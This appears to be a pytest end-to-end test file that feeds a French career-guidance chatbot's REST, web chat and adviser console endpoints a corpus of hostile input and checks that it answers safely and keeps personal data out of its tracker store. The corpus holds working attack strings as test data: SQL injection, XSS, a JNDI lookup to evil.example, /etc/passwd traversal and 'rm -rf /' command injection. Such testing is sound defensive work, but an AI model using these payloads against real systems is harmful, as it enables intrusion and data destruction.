"""A hostile-input corpus against the real servers: REST, web chat and console.

Sizes, encodings, nesting, injections, Unicode and metadata. Every case must get an
answer below 500 within 5 s; a refusal is a French ``{"error": …}``; an accepted
message gets at least one French text; and at the end no personal data typed in the
corpus is in the tracker store.
"""

from __future__ import annotations

import json
import re
import time
from typing import Any, Iterator

import pytest
import requests

from bot.runtime.launcher import Stack
from tests.conftest import conversation_id
from tests.console.conftest import PASSWORDS, accounts_text  # noqa: F401 - fixture

pytestmark = pytest.mark.e2e

DEADLINE_SECONDS = 5.0
FRENCH = re.compile(
    r"\b(le|la|les|de|des|du|un|une|votre|vous|est|pour|au|requête|adresse|méthode|"
    r"saisissez|identifiant|appel|champ|choisissez|commune|réessayez)\b", re.IGNORECASE)

# Personal data typed in the corpus: none of these may reach the tracker store.
PII = {
    "lea.martin@example.org": "mon mail lea.martin@example.org",
    "06 12 34 56 78": "appelez le 06 12 34 56 78",
    "+33 6 98 76 54 32": "mon numéro +33 6 98 76 54 32",
    "jean(at)exemple.fr": "écrivez à jean(at)exemple.fr",
    "arobase gmail point com": "paul point durand arobase gmail point com",
    "FR76 3000 6000 0112 3456 7890 189": "iban FR76 3000 6000 0112 3456 7890 189",
    "1 85 05 78 006 084 36": "sécu 1 85 05 78 006 084 36",
    "Dupont": "Jean Dupont, 22 ans, je cherche du travail",
    "Lefebvre": "Nom : LEFEBVRE Claire",
    "Moreau": "c'est Karim Moreau à l'appareil",
    "durandal": "je m'appelle jeanne durandal et j'ai 30 ans",
}

TEXTS: list[str] = [
    # sizes
    "", " ", "\n\t", "a", "?", "." * 10, "a" * 1999, "a" * 2000, "a" * 2001, "mot " * 600,
    "x" * 20_000, "Bonjour " * 300,
    # injections
    "' OR 1=1 --", "'; DROP TABLE events; --", "\" OR \"\"=\"", "1; SELECT * FROM events",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "javascript:alert(1)", "<iframe src=//evil.example>", "{{7*7}}", "${7*7}", "#{7*7}",
    "${jndi:ldap://evil.example/a}", "%s%s%s%n", "../../../../etc/passwd",
    "$(rm -rf /)", "`id`", "| cat /etc/passwd", "\r\n[INFO] faux journal", "\x1b[31mrouge",
    "[lien](javascript:alert(1))", '{"sender": "autre", "message": "x"}', "null", "[]",
    "/restart", "/session_start", "/action_restart", '/inform{"age": 99}', "/greet@0.01",
    "/ask_human{}", "//", "/", "/ restart", "/RESTART", "/inform{", "/nlu_fallback",
    "__proto__", "constructor", "NaN", "1e309", "-1", "0x41", "\\u0000",
    # unicode
    "ｊ'ａｉ ２２ ａｎｓ", "ＢＯＮＪＯＵＲ", "𝐛𝐨𝐧𝐣𝐨𝐮𝐫", "ﬁnancer ma formation", "Ⅻ ans",
    "j\u2019ai 22 ans", "bon\u200bjour", "\u202ej'ai 22 ans", "\ufeffbonjour", "e\u0301te\u0301",
    "z" + "\u0301" * 500, "😀😀😀", "👩‍🔧 je veux être mécanicienne", "🇫🇷", "١٢٣", "你好",
    "Привет", "مرحبا", "שלום", "こんにちは", "ğüşıöç", "\u00a0\u00a0bonjour\u00a0",
    "\u2028\u2029", "a\u0300" * 100, "ǅ", "ß", "İstanbul", "\U0001f600" * 500,
    # what the public really writes
    "bonjour", "jcherche du taf jai 20 ans", "je veux changer de métier", "merci",
    "c'est quoi le CEP ?", "je voudrais parler à un conseiller", "j'habite Dreux",
    "JE SUIS AU CHÔMAGE !!!!!", "????", "azertyuiop", "non", "oui", "recommencer",
    *PII.values(),
]
# Unicode that must be refused before the NLU (invalid code points).
INVALID = ["\ud800", "a\udfffb", "\ufffe", "\uffff", "\ufdd0", "\U0010ffff", "\x00", "\x07",
           "\ue000 privé"]
METADATA: list[Any] = [
    None, {}, {"region": "24"}, {"region": "2A"}, {"region": "245"}, {"region": ""},
    {"region": 24}, {"region": ["24"]}, {"region": {"a": 1}}, {"region": "r" * 1000},
    {"region": "<script>"}, {"channel_page": "/orientation"}, {"channel_page": "x" * 500},
    {"channel_page": "<img src=x>"}, {"inconnu": "x"}, {f"k{i}": i for i in range(50)},
    {"region": "24", "extra": {"deep": [1, 2, 3]}}, [], "region=24", 42, True,
]
BODIES: list[bytes] = [
    b"", b" ", b"{", b"}", b"{}", b"[]", b"null", b"true", b"42", b'"texte"',
    b"{not json}", b'{"sender": }', b"\xff\xfe\x00\x00", b"\xc0\xaf", b"\xed\xa0\x80",
    "{\"message\": \"é\"}".encode("latin-1"), "{\"message\": \"bonjour\"}".encode("utf-16"),
    b"\xef\xbb\xbf{\"message\": \"bonjour\"}", b"[" * 9, b"[" * 10_000, b"{\"a\":" * 10_000,
    b"[" * 60_000, b'{"sender": 1, "message": "x"}', b'{"sender": ["a"], "message": "x"}',
    b'{"sender": null, "message": "x"}', b'{"sender": "", "message": "x"}',
    b'{"sender": "essai", "message": "x"}', b'{"sender": "' + b"a" * 5000 + b'"}',
    b'{"sender": "../../etc", "message": "x"}', b'{"sender": "c-x.y", "message": "x"}',
    b"x" * 70_000, b'{"message": "' + b"a" * 65_000 + b'"}', b"\x00" * 1000,
]


def is_french(text: str) -> bool:
    return bool(FRENCH.search(text))


def check(answer: requests.Response, seconds: float, case: Any) -> None:
    """The corpus' rules for one answer."""
    assert answer.status_code < 500, (case, answer.status_code, answer.text[:300])
    assert seconds < DEADLINE_SECONDS, (case, f"{seconds:.1f} s")
    if answer.status_code >= 400:
        body = answer.json()
        assert isinstance(body, dict) and is_french(body.get("error", "")), (case, body)


def send(stack: Stack, channel: str, body: bytes, case: Any) -> requests.Response:
    started = time.monotonic()
    answer = requests.post(f"{stack.url}/webhooks/{channel}/webhook", data=body,
                           headers={"Content-Type": "application/json"}, timeout=30)
    check(answer, time.monotonic() - started, case)
    return answer


def message_body(stack: Stack, label: str, text: str, metadata: Any = None) -> bytes:
    payload: dict[str, Any] = {"sender": conversation_id(stack.url, label), "message": text}
    if metadata is not None:
        payload["metadata"] = metadata
    return json.dumps(payload).encode("utf-8", "surrogatepass")


@pytest.fixture(scope="module")
def warm(stack: Stack) -> Stack:
    requests.post(f"{stack.url}/webhooks/rest/webhook", timeout=120,
                  json={"sender": conversation_id(stack.url, "warm-up"), "message": "bonjour"})
    return stack


CHANNELS = ["rest", "webchat"]


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("index", range(len(TEXTS)))
def test_texts(warm: Stack, channel: str, index: int) -> None:
    text = TEXTS[index]
    answer = send(warm, channel, message_body(warm, f"hostile-{channel}-{index}", text), text)
    if answer.status_code == 200:
        messages = answer.json()
        said = " ".join(m.get("text") or "" for m in messages)
        assert messages and is_french(said), (text[:80], messages)


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("text", INVALID)
def test_invalid_code_points_are_refused(warm: Stack, channel: str, text: str) -> None:
    answer = send(warm, channel, message_body(warm, f"invalid-{channel}-{ord(text[0])}", text),
                  text)
    assert answer.status_code == 400


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("index", range(len(METADATA)))
def test_metadata(warm: Stack, channel: str, index: int) -> None:
    metadata = METADATA[index]
    body = message_body(warm, f"meta-{channel}-{index}", "bonjour", metadata)
    send(warm, channel, body, metadata)


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("index", range(len(BODIES)))
def test_raw_bodies(warm: Stack, channel: str, index: int) -> None:
    answer = send(warm, channel, BODIES[index], BODIES[index][:40])
    assert answer.status_code in (400, 403, 413), answer.text[:200]


def test_a_megabyte_is_refused_before_it_is_read(warm: Stack) -> None:
    started = time.monotonic()
    answer = requests.post(f"{warm.url}/webhooks/rest/webhook", data=b"a" * 1_000_000,
                           headers={"Content-Type": "application/json"}, timeout=30)
    check(answer, time.monotonic() - started, "1 MB")
    assert answer.status_code == 413


# Console: hostile input from a signed-in adviser (and from nobody).
CONSOLE_TEXTS = [t for t in TEXTS if t.strip()][::3] + INVALID[:3]
CONSOLE_REQUESTS: list[tuple[str, str, Any]] = [
    ("POST", "/login", {"username": "x" * 10_000, "password": "y"}),
    ("POST", "/login", {"username": ["cmartin"], "password": {"a": 1}}),
    ("POST", "/login", {"username": "cmartin' --", "password": "' OR 1=1"}),
    ("POST", "/login", b"[" * 50_000),
    ("POST", "/login", b"\xff\xfe"),
    ("GET", "/calls/..%2F..%2Fetc%2Fpasswd", None),
    ("GET", "/calls/%00", None),
    ("GET", "/calls/" + "a" * 5000, None),
    ("GET", "/structures?network=cio&commune=" + "%27" * 100, None),
    ("GET", "/structures?network=<script>&commune=Tours", None),
    ("GET", "/structures?network=cio&commune=" + "a" * 5000, None),
    ("POST", "/calls/{id}/profile", {"field": "age", "value": "1e309"}),
    ("POST", "/calls/{id}/profile", {"field": "age", "value": ["25"]}),
    ("POST", "/calls/{id}/profile", {"field": "commune", "value": "<script>"}),
    ("POST", "/calls/{id}/profile", {"field": "__proto__", "value": 1}),
    ("POST", "/calls/{id}/profile", {"field": "situation", "value": "' OR 1=1"}),
    ("POST", "/calls/{id}/structure", {"structure_id": "../../etc"}),
    ("POST", "/calls/{id}/structure", {"structure_id": {"a": 1}}),
    ("POST", "/calls/{id}/caller", {"consent": "yes", "note": "x" * 100_000}),
    ("POST", "/calls/{id}/caller", {"consent": True, "name": ["a"], "note": None}),
    ("POST", "/calls/{id}/say", {"text": ["liste"]}),
    ("POST", "/calls/{id}/say", {"text": {"a": 1}}),
    ("POST", "/calls/{id}/say", {"text": "a" * 3000}),
    ("POST", "/calls/{id}/say", b'{"text": ' + b"[" * 30_000),
    ("POST", "/calls/{id}/close", {"outcome": "<script>"}),
    ("GET", "/calls/{id}/fiche?format=<script>", None),
    ("GET", "/calls/{id}/fiche?format=html&download=" + "1" * 1000, None),
]


@pytest.fixture(scope="module")
def adviser(warm: Stack, accounts_text: str) -> Iterator[tuple[requests.Session, str]]:
    (warm.log_dir / "console-accounts.yml").write_text(accounts_text, encoding="utf-8")
    session = requests.Session()
    api = f"{warm.url}/webhooks/console/api"
    assert session.post(f"{api}/login", json={"username": "cmartin",
                                              "password": PASSWORDS["cmartin"]}).ok
    call = session.post(f"{api}/calls", json={}).json()
    yield session, call["id"]
    session.close()


def console(session: requests.Session, stack: Stack, method: str, path: str, body: Any,
            case: Any) -> requests.Response:
    url = f"{stack.url}/webhooks/console/api{path}"
    started = time.monotonic()
    if isinstance(body, bytes):
        answer = session.request(method, url, data=body,
                                 headers={"Content-Type": "application/json"}, timeout=30)
    else:
        answer = session.request(method, url, json=body, timeout=30)
    check(answer, time.monotonic() - started, case)
    return answer


@pytest.mark.parametrize("index", range(len(CONSOLE_TEXTS)))
def test_console_say(warm: Stack, adviser: tuple[requests.Session, str], index: int) -> None:
    session, call_id = adviser
    text = CONSOLE_TEXTS[index]
    console(session, warm, "POST", f"/calls/{call_id}/say",
            json.dumps({"text": text}).encode(), text[:60])


@pytest.mark.parametrize("index", range(len(CONSOLE_REQUESTS)))
@pytest.mark.parametrize("who", ["adviser", "nobody"])
def test_console_requests(warm: Stack, adviser: tuple[requests.Session, str], index: int,
                          who: str) -> None:
    session, call_id = adviser
    method, path, body = CONSOLE_REQUESTS[index]
    client = session if who == "adviser" else requests.Session()
    console(client, warm, method, path.replace("{id}", call_id), body, (who, path[:60]))


def test_no_personal_data_in_the_tracker_store(
    warm: Stack, adviser: tuple[requests.Session, str]
) -> None:
    session, call_id = adviser
    for label, text in PII.items():
        for channel in CHANNELS:
            send(warm, channel, message_body(warm, f"pii-{channel}-{label}", text), label)
        console(session, warm, "POST", f"/calls/{call_id}/say", {"text": text}, label)
    import sqlite3

    with sqlite3.connect(warm.endpoints.parent / "tracker.sqlite3") as connection:
        stored = "\n".join(json.dumps(json.loads(row[0]), ensure_ascii=False)
                           for row in connection.execute("SELECT data FROM events"))
    with sqlite3.connect(warm.log_dir / "console.sqlite3") as connection:
        stored += "\n".join(str(row) for row in connection.execute(
            "SELECT transcript, note FROM console_calls"))
    leaked = [raw for raw in PII if raw.lower() in stored.lower()]
    assert not leaked
